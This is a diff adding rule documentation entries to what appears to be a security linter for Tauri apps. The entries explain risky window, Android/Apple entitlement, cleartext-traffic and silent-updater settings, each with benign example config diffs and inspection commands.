+## Why it matters
+
+None of these opens the app by itself. They are what other holes are used with.
+
+## What to do
+
+Leave off what the app does not need.
+
+## When it says nothing
+
+- A switch is written out as its default.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags an argument
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "plugins": {
+     "cli": {
+-      "args": []
++      "args": [
++        {
++          "name": "script",
++          "takesValue": true
++        }
++      ]
+     }
+   }
+\`\`\`
+
+Whoever starts the app can newly hand it \`--script\`:
+
+\`\`\`
+notes --script
+\`\`\`
+
+### It says nothing about a default
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "productName": "notes",
+   "identifier": "org.example.notes",
+-  "app": {}
++  "app": {
++    "macOSPrivateApi": false
++  }
+ }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
 `,"config/traffic-proxied":`# A window's traffic goes through a proxy: \`config/traffic-proxied\`
 
 Severity: high; medium for a proxy on the same machine; low for an app that is new.
@@ -2513,6 +4825,134 @@ getCurrentWindow().label === "settings"
 - [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
 - [Tauri 2: capabilities for windows and platforms](https://v2.tauri.app/learn/security/capabilities-for-windows-and-platforms/)
 - [Tauri 2: the process model](https://v2.tauri.app/concept/process-model/)
+`,"config/window-disguised":`# A window with a website hides what it is: \`config/window-disguised\`
+
+Severity: medium where nobody sees it; low for other looks; low for an app that is new.
+
+Since: 0.1.0
+
+A window with a \`url\` of a website is hidden, has no frame, is transparent, above all others or on the whole screen.
+
+## Why it matters
+
+A website in a window without a frame can look like any dialog of the system. One that nobody sees can work for as long as the app runs.
+
+## What to do
+
+Show websites in windows that look like windows, or in the browser.
+
+## When it says nothing
+
+- The window shows the app's own pages.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a hidden website
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+       {
+         "label": "sync",
+-        "url": "https://example.com"
++        "url": "https://example.com",
++        "visible": false
+       }
+     ]
+\`\`\`
+
+The window \`sync\` can newly show a website that nobody sees:
+
+\`\`\`
+new WebviewWindow("sync", { visible: false })
+\`\`\`
+
+### It says nothing about a page of the app
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+     "windows": [
+       {
+-        "label": "splash"
++        "label": "splash",
++        "decorations": false
+       }
+     ]
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
+`,"config/window-guard-removed":`# A window has lost a guard: \`config/window-guard-removed\`
+
+Severity: medium for scripts on a website, for navigation on iOS and for \`dangerousUseHttpScheme\` of Tauri 1; low for the rest.
+
+Since: 0.1.0
+
+A window no longer has \`javascriptDisabled\`, \`limitNavigationsToAppBoundDomains\`, \`contentProtected\`, \`incognito\` or \`useHttpsScheme\`.
+
+## Why it matters
+
+Each of these keeps something from happening whatever the page does.
+
+## What to do
+
+Keep the guard, or say why the window can do without.
+
+## When it says nothing
+
+- The window is new.
+- A guard that is off by default is written out as \`false\`.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags scripts on a website
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+       {
+         "label": "help",
+-        "url": "https://example.com",
+-        "javascriptDisabled": true
++        "url": "https://example.com"
+       }
+     ]
+\`\`\`
+
+The window \`help\` can newly run scripts:
+
+\`\`\`
+new WebviewWindow("help")
+\`\`\`
+
+### It says nothing about a new window
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+       {
+         "label": "main"
++      },
++      {
++        "label": "side",
++        "incognito": false
+       }
+     ]
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
 `,"csp/connection-allowed":`# Data may be sent to and fetched from somewhere new: \`csp/connection-allowed\`
 
 Severity: medium for any host; low for a named host; info for protocols of the app and for \`data:\` and \`blob:\`.
@@ -3756,6 +6196,324 @@ invoke("plugin:fs|write_text_file", {"path":"/home/user/Documents/folder/notes.t
 - [Tauri 2: capabilities for windows and platforms](https://v2.tauri.app/learn/security/capabilities-for-windows-and-platforms/)
 - [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
 - [Tauri 2: fields of a capability](https://v2.tauri.app/reference/acl/capability/)
+`,"native/component-exported":`# Other apps may call a part of the app: \`native/component-exported\`
+
+Severity: high for services, receivers and providers; medium for activities and for addresses of files; low for what a known one is handed; low for an app that \
+is new.
+
+Since: 0.1.0
+
+A component of a manifest is exported and asks for no permission, or a filter says that it takes something else.
+
+## Why it matters
+
+Any app of the device may start an exported activity, bind an exported service and read an exported provider, with what it likes.
+
+## What to do
+
+Leave \`android:exported\` at \`false\`, or ask for a permission that only apps of yours have.
+
+## When it says nothing
+
+- The component asks callers for a permission.
+- The element takes away what another manifest has.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a provider
+
+\`src-tauri/gen/android/app/src/main/AndroidManifest.xml\`:
+
+\`\`\`diff
+ <manifest xmlns:android="http://schemas.android.com/apk/res/android">
+   <application>
+-    <provider android:name=".Notes" android:exported="false"/>
++    <provider android:name=".Notes" android:exported="true"/>
+   </application>
+ </manifest>
+\`\`\`
+
+Any app on the device can newly call the provider \`.Notes\` on Android:
+
+\`\`\`
+AndroidManifest.xml: provider .Notes android:exported="true"
+\`\`\`
+
+### It says nothing about a service with a permission
+
+\`src-tauri/gen/android/app/src/main/AndroidManifest.xml\`:
+
+\`\`\`diff
+ <manifest xmlns:android="http://schemas.android.com/apk/res/android">
+   <application>
++    <service android:name=".Sync" android:exported="true" android:permission="org.example.SYNC"/>
+   </application>
+ </manifest>
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
+- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
+`,"native/feature-added":`# The app asks the system for more: \`native/feature-added\`
+
+Severity: low.
+
+Since: 0.1.0
+
+An entitlement, a reason in Info.plist or a permission of Android is new.
+
+## Why it matters
+
+People are asked before the app uses most of these. A page of the app can ask for the camera only where the app has a reason for it.
+
+## What to do
+
+Ask for what the app uses.
+
+## When it says nothing
+
+- A reason is worded differently.
+- The permission was there in another manifest.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a reason
+
+\`src-tauri/Info.plist\`:
+
+\`\`\`diff
+   <key>LSMinimumSystemVersion</key>
+   <string>10.15</string>
++  <key>NSCameraUsageDescription</key>
++  <string>To scan notes.</string>
+ </dict>
+ </plist>
+\`\`\`
+
+The app can newly ask the person for what it could not ask for before, by \`NSCameraUsageDescription\` on macOS and iOS:
+
+\`\`\`
+plutil -p Info.plist # NSCameraUsageDescription
+\`\`\`
+
+### It says nothing when a reason is worded differently
+
+\`src-tauri/Info.plist\`:
+
+\`\`\`diff
+ <dict>
+   <key>NSCameraUsageDescription</key>
+-  <string>To scan notes.</string>
++  <string>It scans notes.</string>
+ </dict>
+ </plist>
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
+- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
+`,"native/privilege-claimed":`# The app reaches other programs or the system: \`native/privilege-claimed\`
+
+Severity: critical for extensions and helpers of the system and for another way of updates; high for files, other apps and powerful permissions; medium for shar\
+ing and servers; low for an app that is new.
+
+Since: 0.1.0
+
+An entitlement, a key of Info.plist or a permission of Android has it that gives the app power over other programs, the files of people or the system.
+
+## Why it matters
+
+Whoever gets into the app has that power too, and some of it is granted without a question.
+
+## What to do
+
+Leave out what the app can do without. Ask for the smallest of several permissions.
+
+## When it says nothing
+
+- The key is \`false\`.
+- The same permission is asked for in another manifest of the app.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags all files
+
+\`src-tauri/entitlements.plist\`:
+
+\`\`\`diff
+   <key>com.apple.security.app-sandbox</key>
+   <true/>
++  <key>com.apple.security.files.all</key>
++  <true/>
+ </dict>
+ </plist>
+\`\`\`
+
+The app can newly reach files outside of its container, by \`com.apple.security.files.all\` on macOS:
+
+\`\`\`
+codesign -d --entitlements - Notes.app # com.apple.security.files.all
+\`\`\`
+
+### It says nothing when lines change places
+
+\`src-tauri/entitlements.plist\`:
+
+\`\`\`diff
+ <plist version="1.0">
+ <dict>
+-  <key>com.apple.security.files.all</key>
+-  <true/>
+   <key>com.apple.security.print</key>
+   <true/>
++  <key>com.apple.security.files.all</key>
++  <true/>
+ </dict>
+ </plist>
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
+- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
+`,"native/process-freed":`# Other programs get into the app: \`native/process-freed\`
+
+Severity: high; medium for JIT and for entitlements that no configuration names; low for an app that is new.
+
+Since: 0.1.0
+
+The hardened runtime is off, entitlements free the process of a guard (\`disable-library-validation\`, \`allow-dyld-environment-variables\`, \`allow-jit\`, \`allow-uns\
+igned-executable-memory\`, \`get-task-allow\`), the sandbox is gone, or an app of Android can be debugged.
+
+## Why it matters
+
+Other programs of the same person can then put code into the app. It has what the person allowed the app: the camera, files, the keychain.
+
+## What to do
+
+Remove the key. Sign the libraries that the app loads with its own team, so that it needs none.
+
+## When it says nothing
+
+- The key is \`false\`, or stands in a comment.
+- The file moved, and its keys are the same.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a library of anyone
+
+\`src-tauri/entitlements.plist\`:
+
+\`\`\`diff
+   <key>com.apple.security.network.client</key>
+   <true/>
++  <key>com.apple.security.cs.disable-library-validation</key>
++  <true/>
+ </dict>
+ </plist>
+\`\`\`
+
+Any program of the same person can newly have the app load its libraries, by \`com.apple.security.cs.disable-library-validation\` on macOS:
+
+\`\`\`
+codesign -d --entitlements - Notes.app # com.apple.security.cs.disable-library-validation
+\`\`\`
+
+### It says nothing about a key in a comment
+
+\`src-tauri/entitlements.plist\`:
+
+\`\`\`diff
+   <key>com.apple.security.app-sandbox</key>
+   <true/>
++  <!-- <key>get-task-allow</key><true/> -->
+ </dict>
+ </plist>
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
+- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
+`,"native/traffic-unprotected":`# The app may exchange data without TLS: \`native/traffic-unprotected\`
+
+Severity: high for all traffic; medium for a domain; low for this machine; low for an app that is new.
+
+Since: 0.1.0
+
+\`exceptionDomain\`, a key of \`NSAppTransportSecurity\`, \`usesCleartextTraffic\` or the network security configuration of Android allows traffic that anyone on the \
+way can read and change, or trusts certificates that people add.
+
+## Why it matters
+
+Anyone on the way can change what a server sends: scripts of pages, updates, data.
+
+## What to do
+
+Use \`https:\`. For a server in development, allow it in debug builds alone.
+
+## When it says nothing
+
+- The domain is this machine.
+- The key is \`false\`.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a domain
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "bundle": {
+-    "macOS": {}
++    "macOS": {
++      "exceptionDomain": "example.com"
++    }
+   }
+ }
+\`\`\`
+
+Anyone on the way can newly read and change what the app exchanges with \`example.com\` and all below it on macOS:
+
+\`\`\`
+GET http://example.com/
+\`\`\`
+
+### It says nothing when the domain is spelt differently
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "macOS": {
+-      "exceptionDomain": "example.com"
++      "exceptionDomain": "Example.com"
+     }
+   }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
+- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
 `,"packages/bytes-unpublished":`# A lockfile pins bytes that the registry doesn't serve: \`packages/bytes-unpublished\`
 
 Severity: critical.
@@ -4912,6 +7670,70 @@ a review that finds csp/eval-allowed at critical
 - [GitHub: about code owners](https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/customizing-your-repository/about-code-own\
 ers)
 - [OpenSSF: Branch-Protection, code review](https://github.com/ossf/scorecard/blob/main/docs/checks.md#branch-protection)
+`,"updates/installer-silenced":`# Updates are installed with less to see: \`updates/installer-silenced\`
+
+Severity: medium for arguments; low for what people no longer see; low for an app that is new.
+
+Since: 0.1.0
+
+The updater of Windows has \`quiet\` or other \`installerArgs\`, or Tauri 1 no longer asks.
+
+## Why it matters
+
+Arguments go to the installer as they are: \`/D=\` sets its folder, \`TRANSFORMS=\` changes an MSI. What people don't see they can't stop.
+
+## What to do
+
+Leave the installer visible, and give it no arguments.
+
+## When it says nothing
+
+- The mode goes from \`quiet\` to \`passive\`.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags an argument
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+     "updater": {
+       "windows": {
+-        "installMode": "passive"
++        "installMode": "passive",
++        "installerArgs": [
++          "/D=C:\\\\\\\\notes"
++        ]
+       }
+     }
+\`\`\`
+
+An update can newly be installed with \`/D=C:\\\\notes\` on Windows:
+
+\`\`\`
+notes-setup.exe /D=C:\\\\notes
+\`\`\`
+
+### It says nothing about a mode that shows more
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+     "updater": {
+       "windows": {
+-        "installMode": "quiet"
++        "installMode": "passive"
+       }
+     }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)
+- [Tauri 1: the updater](https://v1.tauri.app/v1/guides/distribution/updater)
 `,"updates/key-trusted":`# Another key signs the app's updates: \`updates/key-trusted\`
 
 Severity: critical where another key was trusted before; high for the first one; medium for one that no updater reads yet; low for an app that is new.
